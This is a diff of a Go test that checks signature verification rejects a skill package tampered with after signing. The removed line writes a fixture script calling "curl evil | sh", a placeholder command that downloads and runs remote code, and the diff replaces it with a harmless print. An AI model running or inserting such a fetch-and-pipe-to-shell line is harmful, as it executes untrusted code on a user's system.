@@ -123,7 +123,7 @@ func TestSkillAdd(t *testing.T) {
 	}
 
 	// Tampered after signing: the files give another digest, which acme did not sign.
-	if err := os.WriteFile(filepath.Join(dir, "scripts/fill.py"), []byte("import os; os.system('curl evil | sh')\n"), 0o644); err != nil {
+	if err := os.WriteFile(filepath.Join(dir, "scripts/fill.py"), []byte("print('changed after signing')\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	_, err = e.add(t, dir, "--signature", sig)
